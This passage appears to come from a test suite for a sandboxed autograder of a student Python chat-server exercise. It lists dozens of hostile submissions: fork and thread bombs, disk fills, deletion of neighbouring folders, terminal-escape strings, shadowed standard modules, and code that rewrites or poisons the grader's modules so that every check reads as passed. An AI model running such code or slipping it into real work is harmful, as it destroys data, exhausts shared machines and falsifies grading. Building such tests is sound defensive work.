            for folder in (variables.get("HOME", ""), variables.get("TMPDIR", ""), os.readlink(f"/proc/{pid}/cwd")):
                for name in ("canary.txt", "hostile.txt", "../canary.txt", "grader/limits.py"):
                    path = os.path.join(folder, name)
                    if folder and ours(path):
                        try:
                            open(path, "a").write("# hostile")
                        except OSError:
                            pass
        """,
        only_forte=True,
    ),
    filing(
        "writes-system-tmp",
        "Writes into the folder for everybody's temporary files.",
        'open("/tmp/chatpy-hostile-" + MARK, "w").write("20/20")\n',
        only_forte=True,
    ),
    filing(
        "writes-upwards",
        "Writes into the folders above its own, by relative paths.",
        """
        for up in ("../../..", "../../../home", "../../../class", "../../../class/rendu"):
            for name in ("canary.txt", "hostile.txt", "etape1.py"):
                path = os.path.join(up, name)
                if ours(path) and os.path.isdir(up):
                    open(path, "w").write("20/20")
        """,
        only_forte=True,
    ),
    filing(
        "writes-to-the-grader",
        "Writes among the grader's own files, found from a function of the probe's.",
        """
        import threading
        root = os.path.join(os.path.dirname(threading.Thread.start.__code__.co_filename), "..")
        for name in ("hostile.py", "limits.py", os.path.join("..", "reference", "hostile.py")):
            path = os.path.join(root, name)
            if ours(path):
                open(path, "a").write("# hostile")
        """,
    ),
    filing(
        "writes-siblings",
        "Writes over the copies that its other programs run in.",
        """
        for _ in range(20):
            for folder in os.listdir(".."):
                path = os.path.join("..", folder, "serveur.py")
                if ours(path) and os.path.isfile(path):
                    open(path, "w").write("print('20/20')")
            time.sleep(0.02)
        """,
    ),
    filing(
        "deletes-siblings",
        "Deletes the folders beside its own, with the one that holds them.",
        """
        import shutil
        up = os.path.abspath("..")
        if ours(up) and os.path.basename(up).startswith("chatpy-") and MARK in os.path.dirname(up):
            for _ in range(20):
                shutil.rmtree(up, ignore_errors=True)
                time.sleep(0.01)
        """,
        least=0.0,
    ),
    filing(
        "deletes-upwards",
        "Deletes all that it can reach by relative paths.",
        """
        import shutil
        for up in ("../../../home", "../../../class", "../.."):
            if ours(up):
                shutil.rmtree(os.path.abspath(up), ignore_errors=True)
        """,
        least=0.0,
        only_forte=True,
    ),
    filing(
        "plants-links",
        "Plants links to folders that are not its own, beside a folder that cannot be removed.",
        """
        for number, up in enumerate(("../../../../home", "../../../../class", "../../../../project")):
            os.makedirs("locked/inside", exist_ok=True)
            os.symlink(up, f"link{number}")
            os.symlink("../" + up, f"locked/link{number}")
        os.chmod("locked/inside", 0)
        os.chmod("locked", 0)
        """,
    ),
    filing(
        "digs-deep",
        "Makes folders in folders, deeper than anybody can go.",
        """
        home = os.open(".", os.O_RDONLY)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        os.fchdir(home)
        """,
    ),
    filing(
        "odd-names",
        "Makes files with names that no list of names can show.",
        """
        for name in ("a\\nb", "\\x1b[2J", "\\u202e", "-rf", "$(x)", "x" * 250, " "):
            open(name, "w").close()
        open(b"\\xff\\xfe", "w").close()
        """,
    ),
    filing(
        "removes-its-folder",
        "Removes the folder that it runs in.",
        "import shutil\nif ours('.'):\n    shutil.rmtree(os.getcwd(), ignore_errors=True)\n",
    ),
    filing(
        "locks-its-folder",
        "Takes all rights to its folder and its files away.",
        """
        for name in os.listdir("."):
            os.chmod(name, 0)
        os.chmod(".", 0)
        os.chmod("..", 0o500) if ours("..") else None
        """,
        least=0.0,
    ),
    filing(
        "swaps-its-folder",
        "Puts a link to somebody's home in the place of its folder.",
        """
        here = os.getcwd()
        if ours(here):
            os.rename(here, here + "-moved")
            os.symlink(os.path.abspath("../../../home"), here)
        """,
    ),
    filing(
        "one-big-file",
        "Fills the disk with one file.",
        "with open('big', 'wb') as file:\n    for _ in range(300):\n        file.write(b'x' * 1_000_000)\n",
    ),
    filing(
        "many-files",
        "Fills the disk with many files.",
        "for number in range(20_000):\n    with open(f'f{number}', 'wb') as file:\n        file.write(b'x' * 4096)\n",
    ),
    filing(
        "many-empty-files", "Makes many files.", "for number in range(30_000):\n    open(f'f{number}', 'w').close()\n"
    ),
    filing(
        "sparse-file",
        "Makes a file that claims to be larger than any disk.",
        "with open('big', 'wb') as file:\n    file.truncate(1 << 40)\n",
    ),
    filing(
        "writes-while-tidied",
        "Leaves a process behind that goes on writing files in its folder.",
        """
        if os.fork() == 0:
            os.setsid()
            for fd in range(256):
                try:
                    os.close(fd)
                except OSError:
                    pass
            end, number = time.monotonic() + 15, 0
            while time.monotonic() < end:
                number += 1
                try:
                    os.makedirs(f"d{number % 50}", exist_ok=True)
                    open(f"d{number % 50}/{number % 500}", "w").close()
                except OSError:
                    pass
            os._exit(0)
        """,
    ),
)

# --- processes, threads and memory ----------------------------------------------------------------------------------


def straying(name: str, why: str, text: str, most: float = FULL, least: float = STEP_1) -> Attack:
    """etape1.py does it before anything else, and then its work."""
    return Attack(name, why, first("etape1.py", GUARD + code(text)), most, least=least)


def hanging(name: str, why: str, text: str) -> Attack:
    """etape1.py does its work, and then this, so that it does not end well."""
    return Attack(name, why, last("etape1.py", GUARD + code(text)), 19.0, least=STEP_1)


STRAYS = (
    straying(
        "fork-bomb",
        "Makes children that make children.",
        """
        made = 0
        while made < 7:  # 2**7 processes
            made += 1
            if os.fork() == 0:
                child = True
            else:
                continue
        if "child" in globals():
            while time.monotonic() < END:
                time.sleep(0.5)
            os._exit(0)
        """,
    ),
    straying(
        "fork-bomb-of-sessions",
        "Makes children that leave its group at once, and make children.",
        """
        if os.fork() == 0:
            for _ in range(6):  # 2**6 processes
                os.fork()
                os.setsid() if os.getpid() != os.getsid(0) else None
            while time.monotonic() < END:
                time.sleep(0.5)
            os._exit(0)
        """,
    ),
    straying(
        "thread-bomb",
        "Starts thousands of threads.",
        """
        import threading
        try:
            for _ in range(4000):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass
        """,
    ),
    straying(
        "daemon-with-pipes",
        "Leaves a process of its own session behind that keeps every descriptor open.",
        """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(60)
            os._exit(0)
        """,
    ),
    straying(
        "daemon-without-pipes",
        "Leaves a process of its own session behind that keeps nothing open.",
        """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 256)
                os.chdir("/")
                time.sleep(60)
            os._exit(0)
        """,
    ),
    straying(
        "hopping-daemon",
        "Leaves a process behind that passes on its life again and again, deaf to signals.",
        """
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        end = time.monotonic() + 25
        if os.fork() == 0:
            os.closerange(0, 256)
            while time.monotonic() < end:
                if os.fork():
                    os._exit(0)
                os.setsid()
                time.sleep(0.03)
            os._exit(0)
        """,
    ),
    straying(
        "detached-command",
        "Starts a command that leads its own session.",
        """
        import subprocess
        nothing = subprocess.DEVNULL
        command = [sys.executable, "-c", "import time; time.sleep(60)", MARK]
        subprocess.Popen(command, stdin=nothing, stdout=nothing, stderr=nothing, start_new_session=True)
        """,
    ),
    straying("shell-command", "Starts a command in a shell's background.", "os.system('sleep 60 &')\n"),
    straying(
        "child-keeps-output",
        "Leaves a child behind that goes on printing.",
        """
        if os.fork() == 0:
            os.setsid()
            while time.monotonic() < END:
                os.write(1, b"20/20\\n")
                time.sleep(0.01)
            os._exit(0)
        """,
    ),
    Attack(
        "program-outlived",
        "The server leaves its whole conversation to a child in another session, which never ends.",
        first(
            "serveur.py",
            GUARD + "signal.alarm(60)\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(50)\n    os._exit(0)\n",
        ),
        FULL,
        least=NO_SERVER,
    ),
    straying(
        "memory-flood",
        "Takes all the memory that it can get.",
        """
        kept = []
        try:
            for _ in range(40):
                kept.append(bytearray(b"x") * 20_000_000)
        except MemoryError:
            pass
        """,
    ),
    straying(
        "many-sockets",
        "Opens all the sockets that it can get.",
        """
        import socket
        kept = []
        try:
            for _ in range(5000):
                kept.append(socket.socket())
        except OSError:
            del kept[-20:]
        """,
        least=STEP_1,
    ),
    hanging("sleeps", "Never ends: sleeps.", "time.sleep(100)\n"),
    hanging("computes", "Never ends: computes.", "while time.monotonic() < END:\n    pass\n"),
    hanging("recursion", "Calls itself without end.", "def f():\n    f()\nf()\n"),
    hanging(
        "deep-recursion",
        "Calls itself until the stack overflows.",
        "import sys\nsys.setrecursionlimit(10**9)\nclass A:\n    def __repr__(self):\n        return repr(self)\nrepr(A())\n",
    ),
    hanging(
        "regex",
        "Never ends: looks for a pattern that takes for ever.",
        "import re\nsignal.alarm(60)\nre.match('(a+)+$', 'a' * 60 + 'b')\n",
    ),
    hanging("big-number", "Never ends: computes a number that fits nowhere.", "signal.alarm(60)\nprint(9**9**9)\n"),
    hanging(
        "deadlock",
        "Never ends: waits for itself.",
        "import threading\nsignal.alarm(60)\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()\n",
    ),
    hanging("pause", "Never ends: waits for a signal.", "signal.alarm(60)\nsignal.pause()\n"),
    hanging(
        "deaf",
        "Never ends, and ignores every signal that it may.",
        """
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while time.monotonic() < END:
            time.sleep(1)
        """,
    ),
    hanging("hangs-at-exit", "Never ends: hangs on its way out.", "import atexit\natexit.register(time.sleep, 60)\n"),
    hanging(
        "hangs-in-del",
        "Never ends: hangs while its objects are taken away.",
        "class A:\n    def __del__(self):\n        time.sleep(60)\nkept = A()\n",
    ),
    hanging(
        "hangs-in-thread",
        "Never ends: a thread goes on.",
        "import threading\nthreading.Thread(target=time.sleep, args=(60,)).start()\n",
    ),
    hanging(
        "kills-its-group",
        "Kills its own session.",
        "if os.getpgid(0) == os.getpid():\n    os.killpg(0, signal.SIGKILL)\nraise SystemExit(1)\n",
    ),
    Attack(
        "leaves-the-probe",
        "Becomes another interpreter, in which nobody watches.",
        instead(
            "etape1.py",
            """
            import os, sys

            text = '''
            import os, signal, socket
            signal.alarm(60)
            serveur = socket.create_server(("localhost", 4242))
            serveur.accept()[0].sendall(b"Hello World!")
            '''
            os.execv(sys.executable, [sys.executable, "-c", "if 1:" + text])
            """,
        ),
        FULL,
        least=STEP_1,
    ),
    hanging("aborts", "Ends by a crash of its own.", "os.abort()\n"),
    hanging("crashes", "Ends by a wrong address.", "import ctypes\nctypes.string_at(0)\n"),
    straying("switches-rarely", "Lets no other thread run.", "sys.setswitchinterval(1e6)\n"),
)

# --- output and sockets ---------------------------------------------------------------------------------------------


def server(name: str, why: str, text: str, most: float = MUTE_SERVER) -> Attack:
    """A server that listens, and then does this."""
    return Attack(name, why, instead("serveur.py", GUARD + SERVES + code(text)), most, least=NO_SERVER)


FLOODS = (
    hanging(
        "stdout-flood",
        "Prints without end.",
        "end = time.monotonic() + 30\nwhile time.monotonic() < end:\n    os.write(1, b'20/20 ' * 10_000)\n",
    ),
    hanging(
        "stderr-flood",
        "Complains without end.",
        "end = time.monotonic() + 30\nwhile time.monotonic() < end:\n    os.write(2, b'20/20\\n' * 10_000)\n",
    ),
    hanging(
        "slow-output",
        "Prints one letter from time to time.",
        "while time.monotonic() < END:\n    os.write(1, b'2')\n    time.sleep(0.1)\n",
    ),
    straying("long-line", "Prints one line of ten million letters.", "os.write(1, b'x' * 10_000_000 + b'\\n')\n"),
    server(
        "peer-flood",
        "Sends to its peer without end.",
        """
        client, _ = serveur.accept()
        while time.monotonic() < END:
            client.sendall(b"20/20 " * 10_000)
        """,
    ),
    server("never-reads", "Accepts, and never reads.", "client, _ = serveur.accept()\ntime.sleep(60)\n"),
    server("never-accepts", "Listens, and never accepts.", "time.sleep(60)\n"),
    server(
        "resets",
        "Cuts every connection off.",
        """
        import struct
        while time.monotonic() < END:
            client, _ = serveur.accept()
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            client.close()
        """,
    ),
    server(
        "talks-to-itself",
        "Calls its own port, and says again whatever it hears.",
        """
        own = socket.socket()
        own.setblocking(False)
        own.connect_ex(("127.0.0.1", 4242))
        client, _ = serveur.accept()
        signal.alarm(60)
        while data := client.recv(4096):
            client.sendall(data)
        """,
    ),
    server("closes-at-once", "Closes the connection as soon as it is there.", "serveur.accept()[0].close()\n"),
    server(
        "listens-and-leaves",
        "Claims to listen, and stops listening before anybody can call.",
        "serveur.close()\ntime.sleep(1)\n",
    ),
    server(
        "drips",
        "Sends one byte from time to time, whatever is typed.",
        """
        client, _ = serveur.accept()
        while time.monotonic() < END:
            client.sendall(b"2")
            time.sleep(0.2)
        """,
    ),
    Attack(
        "hello-in-drops",
        "Answers one byte at a time.",
        swapped(
            "etape1.py",
            (
                'client.sendall(MESSAGE.encode("utf-8"))\n',
                "import time\nfor one in MESSAGE:\n    client.sendall(one.encode())\n    time.sleep(0.1)\n",
            ),
        ),
        FULL,
        least=STEP_1,
    ),
    hanging(
        "accepts-for-ever",
        "Goes on accepting after its single request.",
        """
        signal.alarm(60)
        serveur = socket.create_server((IP, 4243))
        while True:
            serveur.accept()
        """,
    ),
    Attack(
        "listens-everywhere",
        "Listens on thousands of ports beside its own.",
        swapped(
            "etape1.py",
            (
                "serveur.listen()\n",
                "serveur.listen()\nothers = []\nfor port in range(5000, 8000):\n    try:\n"
                "        others.append(socket.create_server(('', port)))\n    except OSError:\n"
                "        del others[-20:]\n        break\n",
            ),
        ),
        FULL,
        least=STEP_1,
    ),
    Attack(
        "calls-without-end",
        "Calls its peer hundreds of times before it begins to talk.",
        swapped(
            "client.py",
            (
                'print(f"Connecté à {IP}:{PORT}")\n',
                "more = []\nfor _ in range(300):\n    one = socket.socket()\n    one.setblocking(False)\n"
                "    one.connect_ex((IP, PORT))\n    more.append(one)\n",
            ),
        ),
        FULL,
        least=NO_SERVER,
    ),
)

# --- texts that a terminal or a page obeys --------------------------------------------------------------------------

EVIL_TEXTS = {
    "escapes": r"\x1b]0;20/20\x07\x1b[2J\x1b[H\x1b[32m20/20\x1b[0m\x1b]8;;http://x.invalid\x07lien\x1b]8;;\x07",
    "clipboard": r"\x1b]52;c;cm0gLXJm\x07\x9b31m\x90x\x9c",
    "bidi": r"\u202e02/02 \u2066\u2069\u200b\ufeff\u2028\u2029",
    "controls": r"\x07\x08\x08\x08\r20/20\x00\x7f\x85\t\v\f",
    "zalgo": r"2\u0301\u0302\u0303\u0304\u0305\u0306\u0307/20 \ue000\U000f0000\ufdd0",
    "markup": r"[red]20/20[/red] [link=x]x[/link] <script>alert(1)</script> <svg onload=x> {0} %s \\",
    "surrogates": r"\ud800\udfff \udcff",
}

TEXTS = (
    *(
        Attack(
            f"says-{name}",
            "Answers with a text that a terminal or a page would obey.",
            swapped(
                "etape1.py", ('"Hello World!"', f'"{text}"'), ('encode("utf-8")', 'encode("utf-8", "surrogatepass")')
            ),
            18.0,
            least=STEP_1,
        )
        for name, text in EVIL_TEXTS.items()
    ),
    *(
        Attack(
            f"raises-{name}",
            "Fails with a type, a text and a function of such a name, and gives its threads such names.",
            {
                **first(
                    "etape1.py",
                    f'kind = type("{text}".replace("\\0", "").encode("utf-8", "replace").decode(), (Exception,), {{}})\n'
                    f'raise kind("{text}")\n',
                ),
                "serveur.py": REFERENCE["serveur.py"]
                .replace("args=(client,))\n", f'args=(client,), name="{text}")\n')
                .replace("def Send", "def a")
                .replace("def Réception", "def b")
                .replace("target=Send", "target=a")
                .replace("target=Réception", "target=b")
                .replace("envoi", "one")
                .replace("recep", "two")
                .replace("one.start()", f'a.__name__ = b.__name__ = "{text}"\none.start()'),
            },
            14.0,
            least=9.0,
        )
        for name, text in EVIL_TEXTS.items()
    ),
    Attack(
        "long-exception",
        "Fails with a text of a million letters.",
        first("etape1.py", "raise type('E' * 100_000, (ValueError,), {})('\\x1b[2J' + 'x' * 1_000_000)\n"),
        STEP_1,
        least=STEP_1,
    ),
    Attack(
        "odd-host",
        "Binds to a host of a name that a terminal would obey.",
        swapped("serveur.py", ('IP = ""', r'IP = "\x1b[2J\u202e[red]"')),
        16.0,
        least=5.0,
    ),
    Attack(
        "odd-file-names",
        "Fails in a module of a name that a terminal would obey.",
        {
            **first("etape1.py", r"import importlib" + "\n" + r'importlib.import_module("\x1b[2J\u202e[red]")' + "\n"),
            "\x1b[2J\u202e[red].py": "raise ValueError\n",
            "a\nb.py": "",
        },
        STEP_1,
        least=STEP_1,
    ),
)

# --- files that take the place of others ----------------------------------------------------------------------------

CLAIMS = BORN + code("""
    print("20/20", flush=True)
    forge(everywhere)
    told("SocketMade", 1, 1, 2, 1)
    told("Bound", 1, 1, "", 4242, "0.0.0.0", False, 4, 4242)
    told("Accepted", 1, 1, 2)
    told("FilenoAsked", 1, 2)
    """)

SHADOWS = (
    "socket.py",
    "threading.py",
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
    "grader/__init__.py",
    "grader/__main__.py",
    "grader/probe/__init__.py",
    "rich.py",
    "rich/__init__.py",
    "json.py",
    "os.py",
    "_socket.py",
    "builtins.py",
    "signal.py",
    "codecs.py",
    "encodings/__init__.py",
    "traceback.py",
)

STRAY_FILES = (
    *(
        Attack(
            f"stray-{path.removesuffix('.py').replace('_socket', 'c-socket').replace('/', '-').replace('_', '')}",
            "Puts a file of its own in the place of a module that programs, the probe or the grader import.",
            stray(path, CLAIMS),
            0.0,
        )
        for path in SHADOWS
    ),
    Attack("stray-pytest-ini", "Brings settings for pytest.", stray("pytest.ini", "[pytest]\naddopts = --co\n"), 0.0),
    Attack("stray-pth", "Brings a file of paths.", stray("x.pth", "import os; os._exit(0)\n"), 0.0),
    Attack(
        "stray-memory",
        "Brings the grader's own memory.",
        stray(".chatpy.json", '{"score": 20.0, "passed": ["all"]}'),
        0.0,
    ),
)


SINCE_FOUND = (
    Attack(
        "superscript-address",
        "An address with a digit that is none for int().",
        swapped("serveur.py", ('IP = ""', 'IP = "1².0.0.1"')),
        19.0,
        least=15.0,
    ),
    Attack(
        "line-before-the-first",
        "An error of its own that names a line that cannot be.",
        instead("etape1.py", 'raise SyntaxError("invalid syntax", (__file__, -99999, 1, ""))\n'),
        15.0,
        least=15.0,
    ),
    Attack(
        "many-ports",
        "Binds hundreds of ports during the chat: a second start is to find them again.",
        swapped(
            "serveur.py",
            (
                STARTS,
                STARTS
                + "for port in range(10000, 10900):\n    one = socket.socket()\n    one.bind(('', port))\n    one.close()\n",
            ),
        ),
        FULL,
        least=11.0,
    ),
    Attack(
        "full-keyboard",
        "Fills the pipe of its own standard input, so that whoever types there waits.",
        first(
            "serveur.py",
            """
            import os
            own = os.open("/proc/self/fd/0", os.O_WRONLY | os.O_NONBLOCK)
            for size in (4096, 1):
                try:
                    while True:
                        os.write(own, b"x" * size)
                except BlockingIOError:
                    pass
            """,
        ),
        FULL,
        least=11.0,
    ),
    Attack(
        "silent-after-fork",
        "Makes a child first, closes the probe's channel, and fails in a thread.",
        last(
            "etape1.py",
            """
            import os, threading
            if os.fork() == 0:
                os._exit(0)
            os.wait()
            os.closerange(3, 256)
            thread = threading.Thread(target=lambda: 1 / 0)
            thread.start()
            thread.join()
            """,
        ),
        19.0,
        least=15.0,
        must_suspect=True,
    ),
    Attack(
        "moment-without-end",
        "Says that it began at the end of time.",
        first(
            "etape1.py",
            """
            import sys
            channel = sys.stdin.buffer.raw.channel
            channel._put((channel._token + '["Began", 1e308, 1, "", 0, 1]\\n').encode())
            """,
        ),
        FULL,
        least=15.0,
        must_suspect=True,
    ),
    Attack(
        "threads-in-a-loop",
        "Makes envoi and recep again and again: no ill will, but thousands of threads.",
        instead(
            "serveur.py",
            """
            import socket, threading
            serveur = socket.socket()
            serveur.bind(("", 4242))
            serveur.listen()
            client, adresse = serveur.accept()
            def Send():
                try:
                    client.send(input().encode())
                except (EOFError, OSError):
                    pass
            def Reception():
                try:
                    print(client.recv(1024).decode())
                except OSError:
                    pass
            while True:
                envoi = threading.Thread(target=Send)
                recep = threading.Thread(target=Reception)
                envoi.start()
                recep.start()
                envoi.join()
                recep.join()
            """,
        ),
        FULL,
        least=5.0,
    ),
)
"""What somebody with the source in hand has found."""

# --- the neighbours -------------------------------------------------------------------------------------------------

SYSTEM = GUARD + code("""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    column = ("x86_64", "aarch64").index(os.uname().machine)


    def rings():
        \"\"\"The kernel's rings of keys that belong to whoever grades, made this program's (keyctl(2), KEYCTL_LINK).\"\"\"
        for line in open("/proc/keys"):
            if " _uid." in line:
                ring = int(line.split()[0], 16)
                libc.syscall((250, 219)[column], 8, ring, -3)
                yield ring
    """)
"""What asks the kernel by number."""

HELLO = REFERENCE["etape1.py"].encode()

LIE = code("""


    def explain(verdicts, *_):
        from grader.checks.verdict import PASSED
        verdicts.update(dict.fromkeys(verdicts, PASSED))
        return {}


    def first_to_repair(*_):
        return ""
    """)
"""In a module that is imported only when there is something to explain: every check has passed."""

EXPLAINS = code("""
    import threading
    here = os.path.dirname(threading.Thread.start.__code__.co_filename)
    path = os.path.join(here, "..", "diagnosis", "choose.py")
    """)
"""Finds a module that the grader imports only when all programs have ended."""


def rewriting(name: str, why: str, text: str) -> Attack:
    """A blank submission that makes the grader itself say that all is well."""
    tried = "if ours(path):\n    try:\n" + textwrap.indent(code(text), " " * 8) + "    except OSError:\n        pass\n"
    files = BLANK | {"etape1.py": GUARD + f"LIE = {LIE!r}\n" + EXPLAINS + tried + BLANK["etape1.py"]}
    return Attack(name, why, files, 0.0)


NEIGHBOURS = (
    Attack(
        "leaves-a-key",
        "Leaves a working program in the kernel's keys, for a friend who is graded next.",
        REFERENCE
        | {
            "etape1.py": SYSTEM
            + code(f"""
            text = {HELLO!r}[:9000]
            for ring in rings() if boxed() else ():
                key = libc.syscall((248, 217)[column], b"user", b"chat-" + MARK.encode(), text, len(text), ring)
                libc.syscall((250, 219)[column], 15, key, 30)  # it ends by itself
            """)
            + REFERENCE["etape1.py"]
        },
        FULL,
        least=FULL,
    ),
    Attack(
        "runs-a-key",
        "Runs what a friend has left in the kernel's keys.",
        BLANK
        | {
            "etape1.py": SYSTEM
            + code("""
            room = ctypes.create_string_buffer(9999)
            for ring in rings() if boxed() else ():
                libc.syscall((248, 217)[column], b"user", b"chat-" + MARK.encode(), b"print('a key')", 14, ring)
                key = libc.syscall((250, 219)[column], 10, ring, b"user", b"chat-" + MARK.encode(), 0)
                size = libc.syscall((250, 219)[column], 11, key, room, 9999)
                exec(room.raw[: max(size, 0)])
            """)
            + BLANK["etape1.py"]
        },
        0.0,
    ),
    filing(
        "mounts-hidden-memory",
        "Fills memory that no process has: files of a user namespace of its own.",
        """
        import subprocess
        fill = "mount -t tmpfs none /tmp && cd /tmp && for i in $(seq 108); do head -c 4000000 /dev/zero > f$i; done"
        if boxed():
            done = subprocess.run(["unshare", "-Urm", "sh", "-c", fill], stderr=subprocess.DEVNULL)
            assert done.returncode != 0
        """,
        least=FULL,
    ),
    filing(
        "traces-its-parents",
        "Takes hold of the processes above it, as a debugger does.",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in parents() if boxed() else ():
            assert libc.ptrace(16, pid, None, None) == -1
            assert libc.process_vm_readv(pid, None, 0, None, 0, 0) == -1
        """,
        least=FULL,
    ),
    filing(
        "speaks-another-architecture",
        "Calls the system as a program of 32 bits does, where other numbers stand for the same calls.",
        """
        import ctypes, mmap
        if os.uname().machine == "x86_64" and boxed() and os.fork() == 0:
            code = mmap.mmap(-1, 4096, prot=7)
            code.write(bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3]))
            ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
            os._exit(0)
        """,
        least=FULL,
    ),
    rewriting("rewrites-the-judge", "Adds to a module of the grader's.", "open(path, 'a').write(LIE)"),
    rewriting(
        "replaces-the-judge",
        "Puts another module in the place of one of the grader's.",
        "text = open(path).read()\nos.rename(path, path + '.old')\nopen(path, 'w').write(text + LIE)",
    ),
    rewriting(
        "poisons-the-cache",
        "Puts byte code of its own beside a module of the grader's.",
        """
        import importlib.util, marshal
        about, cache = os.stat(path), importlib.util.cache_from_source(path)
        os.makedirs(os.path.dirname(cache), exist_ok=True)
        made = marshal.dumps(compile(open(path).read() + LIE, path, "exec"))
        head = importlib.util.MAGIC_NUMBER + bytes(4) + int(about.st_mtime).to_bytes(4, "little")
        open(cache, "wb").write(head + about.st_size.to_bytes(4, "little") + made)
        """,
    ),
    rewriting(
        "moves-the-project",
        "Puts a project of its own in the place of the grader's.",
        """
        import shutil
        root = os.path.abspath(os.path.join(here, "..", ".."))
        os.rename(root, root + "-old")
        shutil.copytree(root + "-old", root)
        open(path, "a").write(LIE)
        """,
    ),
)
"""Who helps another submission, or makes the grader another one."""


# --- against whoever judges -----------------------------------------------------------------------------------------

TELLS = code("""
    import os, sys, threading, time
    try:
        fd, _, token, _ = vars(sys.stdin.buffer.raw.channel).values()
    except Exception:
        fd, token = os.open(os.devnull, os.O_WRONLY), ""

    def facts(text):
        return (token + text % time.monotonic() + "\\n").encode() * 40

    def tell(count):
        lot = facts('["ThreadNamed",%.3f,1,"s",5,2,["a","a","a","a","a","a","a","a"]]')
        for _ in range(count // 40):
            os.write(fd, lot)

    def tell_without_end():
        lot = facts('["WaitEnded",%.3f,0,"",0,1]')
        deadline = time.monotonic() + 100
        while time.monotonic() < deadline:
            os.write(fd, lot)
    """)
"""Tells facts in the probe's own voice, by tens of thousands."""


def _nested(levels: int) -> str:
    """A text of some hundred bytes whose compiled form doubles with each level (the compiler copies ``finally``)."""
    opened = "".join(f"{' ' * level}try:a\n{' ' * level}finally:\n" for level in range(levels))
    return opened + " " * levels + "a\n"


AGAINST_THE_JUDGE = (
    Attack(
        "compile-bomb",
        "Has a small file beside the programs, never run, that takes hundreds of megabytes to compile.",
        REFERENCE | {"outil.py": _nested(18)},
        FULL,
        least=FULL,
    ),
    Attack(
        "prompt-for-a-regular-expression",
        "Is one line on which a search that goes back and forth takes half a minute.",
        instead("etape1.py", "a" + "@" * 3000),
        STEP_1,
        least=STEP_1,
    ),
    Attack(
        "names-of-a-thread",
        "Names one of its threads again and again: whoever looks at all names for each has much to do.",
        {
            name: TELLS + text.replace("recep.start()\n", "recep.start()\ntell(19800)\n")
            for name, text in REFERENCE.items()
        },
        FULL,
    ),
    Attack(
        "tells-without-end",
        "Goes on telling from a thread that nobody knows of: it never comes to rest.",
        {
            name: TELLS + "import _thread\n_thread.start_new_thread(tell_without_end, ())\n" + text
            for name, text in REFERENCE.items()
        },
        FULL,
    ),
)
"""What makes reading, judging and explaining take long, or much."""


def _all(*groups: Iterable[Attack]) -> tuple[Attack, ...]:
    return tuple(attack for group in groups for attack in group)


ATTACKS = _all(
    FAKE_REPORTS,
    FORGED_THREADS,
    FORGED,
    FAKED,
    COPIES,
    SIGNALS,
    FILING,
    STRAYS,
    FLOODS,
    TEXTS,
    STRAY_FILES,
    SINCE_FOUND,
    AGAINST_THE_JUDGE,
    NEIGHBOURS,
)
"""All of them."""
